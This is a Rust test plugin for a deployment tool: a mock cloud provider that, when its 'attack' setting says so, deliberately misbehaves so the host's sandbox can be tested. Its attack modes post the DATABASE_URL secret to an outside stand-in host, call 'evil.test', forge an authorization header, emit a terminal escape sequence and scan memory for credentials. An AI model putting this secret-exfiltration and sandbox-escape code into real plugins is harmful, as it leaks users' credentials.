//! A provider for the tests' own cloud, which speaks lines of text. It behaves,
//! unless the setting `attack` says what to do wrong.

use run_plugin_api::events::{Level, log};
use run_plugin_api::http::{Method, Request, Response};
use run_plugin_api::provider::{
    Action, Deployment, Encoding, Job, LogPage, Phase, Proposal, State, Verb, has_credential,
};
use run_plugin_api::{Error, ErrorKind, Provider, Result};

const API: &str = "https://api.cloud.test/v1";

struct Cloud;

/// What the cloud has under one name.
#[derive(Default)]
struct App {
    live: String,
    starting: bool,
    /// Ids with digests, newest first.
    deployments: Vec<(String, String)>,
}

fn url(job: &Job) -> String {
    format!("{API}/apps/{}-{}", job.project(), job.name())
}

/// The answer, or the cloud's own words where it refuses.
fn send(request: Request) -> Result<Response> {
    let response = request.send()?;
    let text = String::from_utf8_lossy(&response.body).into_owned();
    let kind = match response.status {
        200..=299 => return Ok(response),
        401 | 403 => ErrorKind::Denied,
        404 => ErrorKind::NotFound,
        409 => ErrorKind::Conflict,
        _ => ErrorKind::Remote,
    };
    let error = Error::new(
        kind,
        format!("the cloud answers {}: {text}", response.status),
    );
    Err(match response.header("retry-after") {
        Some(seconds) => error.with_help(format!("try again in {seconds} s")),
        None => error,
    })
}

fn look(job: &Job) -> Result<App> {
    let response = match send(Request::get(url(job))) {
        Err(error) if error.kind() == ErrorKind::NotFound => return Ok(App::default()),
        other => other?,
    };
    let text = String::from_utf8(response.body).unwrap_or_default();
    let mut lines = text.lines();
    let head = lines.next().and_then(|line| line.strip_prefix("live="));
    let Some(head) = head else {
        return Err(Error::remote("the cloud's answer is none of its own"));
    };
    let (live, state) = head.split_once(' ').unwrap_or((head, ""));
    Ok(App {
        live: live.to_owned(),
        starting: state == "starting",
        deployments: lines
            .filter_map(|line| line.split_once(' '))
            .map(|(id, digest)| (id.to_owned(), digest.to_owned()))
            .collect(),
    })
}

fn deployment(job: &Job, id: &str, digest: &str) -> Result<Deployment> {
    let site = send(Request::get(format!("{}/url", url(job))))?;
    Ok(Deployment::new(id)
        .with_url(String::from_utf8_lossy(&site.body))
        .with("run:digest", digest))
}

fn promote(job: &Job, id: &str) -> Result<()> {
    send(Request::new(Method::Put, format!("{}/live", url(job))).body(id.as_bytes())).map(drop)
}

impl Provider for Cloud {
    fn validate(job: &Job) -> Result<()> {
        if attack(job) == "request-in-validate" {
            send(Request::get(format!("{API}/apps")))?;
        }
        match std::fs::read(job.artifact()) {
            Ok(bytes) if !bytes.is_empty() => Ok(()),
            _ => Err(Error::invalid_input("there is no artifact")),
        }
    }

    fn plan(job: &Job) -> Result<Proposal> {
        misbehave(job)?;
        let app = look(job)?;
        let digest = job.artifact_digest();
        let subject = format!("app {}-{}", job.project(), job.name());
        let known = app.deployments.iter().find(|(_, known)| *known == digest);
        let action = match known {
            Some((id, _)) if *id == app.live => Action::new(Verb::Keep, subject, "is live already"),
            Some((id, _)) => Action::new(Verb::Promote, subject, format!("makes {id} live")),
            None if app.deployments.is_empty() => {
                Action::new(Verb::Create, subject, "makes it and uploads the component")
            }
            None => Action::new(Verb::Update, subject, "uploads the component"),
        };
        Ok(Proposal {
            actions: vec![action],
            memo: known.map(|(id, _)| id.clone()).unwrap_or_default(),
        })
    }

    fn apply(job: &Job, proposal: Proposal) -> Result<Deployment> {
        let digest = job.artifact_digest();
        if attack(job) == "secret-to-open-host" {
            let secret = job.secret("DATABASE_URL").unwrap_or_default();
            let open = Request::new(Method::Post, "https://open.cloud.test/collect");
            send(open.body(secret.into_bytes()))?;
        }
        let id = if proposal.memo.is_empty() {
            let secrets: String = job
                .setting_values("secrets")
                .iter()
                .filter_map(|name| {
                    let json = job.secret_in(name, Encoding::Json)?;
                    let form = job.secret_in(name, Encoding::Form)?;
                    let base64 = job.secret_in(name, Encoding::Base64)?;
                    Some(format!(
                        "{{\"{name}\":\"{json}\"}}\n{name}={form}\n{base64}\n"
                    ))
                })
                .collect();
            let body = format!("{}\n{digest}\n{secrets}", job.idempotency_key());
            let made =
                send(Request::new(Method::Post, format!("{}/deployments", url(job))).body(body))?;
            String::from_utf8_lossy(&made.body).into_owned()
        } else {
            proposal.memo
        };
        job.remember("last", &id);
        promote(job, &id)?;
        deployment(job, &id, &digest)
    }

    fn status(job: &Job, id: Option<&str>) -> Result<Vec<State>> {
        let app = look(job)?;
        app.deployments
            .iter()
            .filter(|(known, _)| id.is_none_or(|id| id == known))
            .map(|(known, digest)| {
                Ok(State {
                    phase: match (*known == app.live, app.starting) {
                        (true, true) => Phase::Pending,
                        (true, false) => Phase::Live,
                        (false, _) => Phase::Superseded,
                    },
                    deployment: deployment(job, known, digest)?,
                    message: None,
                })
            })
            .collect()
    }

    fn rollback(job: &Job, to: &str) -> Result<Deployment> {
        let app = look(job)?;
        let Some((_, digest)) = app.deployments.iter().find(|(id, _)| id == to) else {
            return Err(Error::not_found(format!("the cloud has no `{to}`")));
        };
        promote(job, to)?;
        deployment(job, to, digest)
    }

    fn destroy(job: &Job) -> Result<()> {
        send(Request::new(Method::Delete, url(job))).map(drop)
    }

    fn logs(job: &Job, cursor: Option<&str>) -> Result<LogPage> {
        let from = cursor.unwrap_or("0");
        let page = send(Request::get(format!("{}/logs?from={from}", url(job))))?;
        let text = String::from_utf8_lossy(&page.body).into_owned();
        let lines: Vec<_> = text.lines().map(str::to_owned).collect();
        let next = from.parse::<usize>().unwrap_or_default() + lines.len();
        Ok(LogPage {
            lines,
            cursor: Some(next.to_string()),
        })
    }
}

fn attack(job: &Job) -> String {
    job.setting("attack").unwrap_or_default()
}

fn misbehave(job: &Job) -> Result<()> {
    match attack(job).as_str() {
        "other-host" => send(Request::get("https://evil.test/")).map(drop),
        "post-in-plan" => send(Request::new(Method::Post, format!("{API}/apps"))).map(drop),
        "leaves-base" => send(Request::get("https://api.cloud.test/v2/apps")).map(drop),
        "own-header" => {
            send(Request::get(format!("{API}/apps")).header("authorization", "Bearer x")).map(drop)
        }
        "remembers-in-plan" => {
            job.remember("x", "y");
            Ok(())
        }
        "escape-sequence" => Err(Error::failed("\u{1b}]0;owned\u{7}")),
        "endless-body" => send(Request::get(format!("{API}/endless"))).map(drop),
        // The answer has the credential in a header and three times in its body.
        "echo" => {
            let response = send(Request::get(format!("{API}/echo")))?;
            let echoed = response.header("x-echo").unwrap_or_default().to_owned();
            let body = String::from_utf8_lossy(&response.body).into_owned();
            log(Level::Warn, &format!("saw {echoed} and {body}"), &[]);
            log(Level::Warn, &format!("found {} in memory", found(job)), &[]);
            let all = std::env::vars().count() + std::env::args().count();
            log(
                Level::Warn,
                &format!("has {all} variables and arguments"),
                &[],
            );
            Ok(())
        }
        "signed" => {
            let region = job.setting("region").unwrap_or_default();
            let all = [
                has_credential("token"),
                has_credential("key"),
                has_credential("x"),
            ];
            log(Level::Warn, &format!("credentials {all:?}"), &[]);
            let run = format!("https://run.{region}.cloud.test/status?b=2&a=1");
            send(Request::get(run)).map(drop)
        }
        _ => Ok(()),
    }
}

/// How often the text is in this plugin's memory of which the setting has every
/// byte one higher.
fn found(job: &Job) -> usize {
    let needle: Vec<u8> = job.setting("needle").unwrap_or_default().into_bytes();
    #[cfg(target_family = "wasm")]
    {
        let size = core::arch::wasm32::memory_size(0) << 16;
        // SAFETY: all of a linear memory can be read, and nothing writes to it
        // while this plugin's only thread is here. Address 0 is left out.
        let memory = unsafe { core::slice::from_raw_parts(1 as *const u8, size - 1) };
        let same = |window: &&[u8]| {
            window
                .iter()
                .zip(&needle)
                .all(|(a, b)| a.wrapping_add(1) == *b)
        };
        memory.windows(needle.len().max(1)).filter(same).count()
    }
    #[cfg(not(target_family = "wasm"))]
    needle.len()
}

run_plugin_api::provider!(Cloud);
run_plugin_api::manifest!("cloud.toml");
